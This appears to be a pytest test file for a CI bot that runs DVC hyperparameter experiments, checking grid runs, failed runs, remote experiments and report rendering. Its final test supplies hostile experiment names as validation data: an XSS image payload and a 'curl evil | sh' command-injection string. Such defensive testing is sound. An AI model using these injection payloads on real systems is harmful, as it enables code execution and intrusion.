"""Hyperparameter searches in the report: real `dvc exp` runs on the demo project, a failing one,
experiments pushed to a bare git remote and read back in a fresh clone, and the bad input."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from bot.ci.context import Context
from bot.errors import BadInput
from bot.job import ReportOptions, run_report
from bot.workspace.demo import git
from bot.workspace.experiments import ExperimentPlan, check_grid, parse_exp_sets, parse_plan


def report_with(project, tmp_path, config: str, **options):
    (project / ".mrbot.yml").write_text(config)
    return run_report(ReportOptions(path=project, out_dir=tmp_path / "bundle", base="main", pull=False,
                                    echo=lambda text: None, **options), Context())


GRID = """\
experiments:
  grid:
    train.lr: [0.01, 0.3]
    train.epochs: [5, 40]
  jobs: 2
  sort: test.accuracy
"""


def test_a_two_by_two_grid_runs_as_experiments_and_the_best_is_named(demo_project, tmp_path, caplog):
    import logging

    caplog.set_level(logging.INFO, logger="bot")
    params_before = (demo_project / "params.yaml").read_text()

    outcome = report_with(demo_project, tmp_path, GRID)

    assert outcome.exit_code == 0
    runs = outcome.report.experiments
    assert len(runs) == 4 and all(run["status"] == "success" for run in runs)
    assert {(run["params"]["train.lr"], run["params"]["train.epochs"]) for run in runs} == {
        (0.01, 5), (0.01, 40), (0.3, 5), (0.3, 40)}
    best = [run for run in runs if run["best"]]
    assert len(best) == 1 and best[0] is runs[0]
    assert best[0]["metrics"]["test.accuracy"] == max(run["metrics"]["test.accuracy"] for run in runs)
    assert sum("experiment " in line and "/4 train.lr=" in line for line in caplog.messages) == 4
    # The workspace is still the head's: the experiments ran in temporary directories.
    assert (demo_project / "params.yaml").read_text() == params_before
    markdown = outcome.markdown
    assert "### Experiments (4)" in markdown and f"dvc exp apply {best[0]['name']}" in markdown
    assert "Ranked by test.accuracy (higher is better)" in markdown
    bundle = json.loads((tmp_path / "bundle" / "report.json").read_text())
    assert [run["name"] for run in bundle["experiments"]] == [run["name"] for run in runs]
    assert "best_experiment_test_accuracy" in (tmp_path / "bundle" / "metrics.txt").read_text()
    chart = next(chart for chart in outcome.report.charts if chart.plot_id == "experiments")
    assert chart.images and (tmp_path / "bundle" / chart.images[0]).read_bytes().startswith(b"\x89PNG")


def test_a_failed_experiment_is_a_row_with_its_log_not_a_failed_job(demo_project, tmp_path):
    config = 'experiments:\n  grid:\n    train.lr: [0.1, "oops"]\n'

    outcome = report_with(demo_project, tmp_path, config)

    assert outcome.exit_code == 0
    failed = [run for run in outcome.report.experiments if run["status"] == "failed"]
    assert len(failed) == 1 and failed[0]["params"] == {"train.lr": "oops"}
    assert any("TypeError" in line or "Error" in line for line in failed[0]["tail"])
    assert "failed" in outcome.markdown and outcome.report.experiments[0]["best"]


def test_pushed_experiments_are_read_back_from_a_bare_remote_in_a_fresh_clone(demo_project, tmp_path):
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(origin))
    git(demo_project, "remote", "add", "origin", str(origin))
    git(demo_project, "push", "-q", "origin", "main", "experiment")
    dvc = [sys.executable, "-m", "dvc"]
    subprocess.run([*dvc, "exp", "run", "--temp", "-S", "train.lr=0.2"], cwd=demo_project, check=True, capture_output=True)
    subprocess.run([*dvc, "exp", "push", "origin", "--rev", "HEAD"], cwd=demo_project, check=True, capture_output=True)
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "-b", "experiment", str(origin), str(clone))
    (clone / ".dvc" / "config.local").write_text(f"[cache]\n    dir = {demo_project / '.dvc' / 'cache'}\n")

    outcome = report_with(clone, tmp_path, "experiments:\n  from: remote\n", repro=False)

    (run,) = outcome.report.experiments
    assert run["params"]["train.lr"] == 0.2 and run["best"] and "test.accuracy" in run["metrics"]


def test_no_experiment_on_the_remote_is_a_note_and_the_report_stands(demo_project, tmp_path):
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(origin))
    git(demo_project, "remote", "add", "origin", str(origin))
    git(demo_project, "push", "-q", "origin", "main", "experiment")

    outcome = report_with(demo_project, tmp_path, "experiments:\n  from: remote\n", repro=False)

    assert outcome.exit_code == 0 and outcome.report.experiments == []
    assert any("has no experiment of the head" in warning for warning in outcome.report.warnings)


@pytest.mark.parametrize("config, words", [
    ("experiments:\n  grid:\n    train.nope: [1, 2]\n", "train.nope' is not a param of the head's params files"),
    ("experiments:\n  jobs: 2\n", "name at least one param"),
    ("experiments:\n  max: 3\n  grid:\n    train.lr: [1, 2]\n    train.epochs: [1, 2]\n", "4 combinations is more than max 3"),
])
def test_a_grid_that_cannot_run_stops_before_the_pipeline(demo_project, tmp_path, config, words):
    with pytest.raises(BadInput, match=words):
        report_with(demo_project, tmp_path, config)


@pytest.mark.parametrize("raw, words", [
    ({"grid": {"train.lr": [[1]]}}, "is not a value `dvc exp run -S` can set"),
    ({"from": "laptop"}, "experiments.from"),
    ({"jobs": 0, "grid": {"a": [1]}}, "experiments.jobs"),
    ({"grids": {}}, "experiments.grids"),
])
def test_bad_plans_name_the_key(raw, words):
    with pytest.raises(BadInput, match=words):
        parse_plan(raw, ".mrbot.yml")


def test_exp_set_values_make_the_grid_and_are_checked():
    assert parse_exp_sets(["train.lr=0.01,0.1", "train.epochs=30"]) == {"train.lr": ["0.01", "0.1"], "train.epochs": ["30"]}
    with pytest.raises(BadInput, match="write PARAM=V1,V2"):
        parse_exp_sets(["train.lr"])
    plan = ExperimentPlan(grid={"params.yaml:train.lr": ["1"]})
    assert check_grid(plan, {"params.yaml": {"train.lr": 0.1}}, "x") == [{"params.yaml:train.lr": "1"}]


def test_experiments_read_from_git_match_dvc_exp_show(demo_project):
    from bot.results.experiments import _through_dvc, read_experiments
    from bot.workspace.experiments import run_grid
    from bot.workspace.repo import open_repo

    ran = run_grid(demo_project, [{"train.lr": "0.2"}, {"train.lr": "0.02"}], 1, [])
    head = git(demo_project, "rev-parse", "HEAD")
    with open_repo(demo_project) as repo:
        from_git = read_experiments(repo, demo_project, head, ["metrics.json"], ["params.yaml"], {one.rev for one in ran})
        from_dvc = _through_dvc(repo, head, {one.rev for one in ran})
        # A metrics file git does not have in those commits: read through DVC instead.
        fallback = read_experiments(repo, demo_project, head, ["metrics.json", "elsewhere.json"], ["params.yaml"])
    assert len(from_git) == 2 and sorted(from_git, key=lambda e: e.rev) == sorted(from_dvc, key=lambda e: e.rev)
    assert sorted(fallback, key=lambda e: e.rev) == sorted(from_dvc, key=lambda e: e.rev)


def test_a_bundles_experiments_are_checked_and_escaped_before_they_are_shown():
    from bot.report.experiments import experiments_from_json, experiments_section
    from bot.report.render import format_change, format_value

    good = {"name": "tutti-slug", "rev": "a" * 40, "params": {"lr": 0.1}, "metrics": {"acc": 0.9},
            "status": "success", "best": True}
    hostile = [
        {**good, "name": "<img src=x onerror=alert(1)>"},
        {**good, "name": "x; curl evil | sh"},
        {**good, "params": {"lr": {"nested": 1}}},
        {**good, "status": "running"},
        "not an object",
    ]
    runs, view = experiments_from_json([good, *hostile], {"params": ["lr"], "metrics": ["acc"], "sort": "acc",
                                                          "direction": "higher", "compared": [], "notes": ["@octocat <b>"]})
    assert runs == [good]
    section = experiments_section(runs + [{**good, "name": "many-" + str(index), "best": False} for index in range(120)],
                                  view, {"acc": 0.8}, format_value, format_change)
    assert "dvc exp apply tutti-slug" in section and "<b>" not in section and "@octocat" not in section
    assert "…and 21 more, listed in report.json." in section
